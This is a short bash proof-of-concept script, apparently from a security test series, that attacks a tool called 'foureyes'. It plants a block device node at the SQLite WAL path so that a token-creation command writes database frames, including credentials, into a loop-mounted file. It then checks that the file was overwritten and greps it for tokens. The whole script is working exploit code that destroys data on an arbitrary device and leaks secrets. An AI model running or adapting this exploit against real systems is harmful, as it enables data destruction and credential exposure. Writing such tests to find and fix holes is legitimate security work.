#!/bin/bash
# HOLE: a block device node planted at DB-wal passes ADR-942's check ("devices pass"); the door writes WAL frames into the device
set -u; FE=/work/attack37/foureyes; T=/tmp/attack37/bdev; rm -rf $T; mkdir -p $T/d
head -c 1048576 /dev/urandom > $T/key; echo "key before: $(sha256sum < $T/key | cut -c1-16)"
L=$(losetup -f --show $T/key); read MA MI < <(stat -c '%t %T' $L)
$FE --db $T/d/t.db token create --name admin0 --role admin >/dev/null 2>&1
mknod $T/d/t.db-wal b $((16#$MA)) $((16#$MI)); ls -la $T/d/t.db-wal
$FE --db $T/d/t.db token create --name bot --role agent; echo "exit=$?"
losetup -d $L; sync
echo "key after:  $(sha256sum < $T/key | cut -c1-16)"; xxd $T/key | head -2
strings -n 6 $T/key | grep -m3 -E 'credential|bot|token'
